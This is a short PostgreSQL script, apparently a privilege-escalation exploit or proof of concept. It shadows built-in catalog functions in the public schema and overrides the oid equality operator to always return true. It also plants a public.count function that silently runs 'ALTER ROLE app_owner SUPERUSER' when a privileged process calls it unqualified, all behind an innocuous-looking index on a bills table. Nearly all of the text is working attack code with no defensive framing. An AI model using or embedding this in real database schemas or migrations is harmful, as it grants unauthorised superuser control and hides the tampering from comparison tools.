CREATE FUNCTION public.pg_get_indexdef(oid) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT ''same''';
CREATE FUNCTION public.pg_get_indexdef(oid, integer, boolean) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT ''same''';
CREATE FUNCTION public.count(anyelement) RETURNS bigint LANGUAGE sql AS 'ALTER ROLE app_owner SUPERUSER; SELECT 1::bigint';
CREATE FUNCTION public.format_type(oid, integer) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT ''same''';
CREATE FUNCTION public.always(oid, oid) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.always);
CREATE INDEX bills_issued_at_idx ON bills (issued_at);
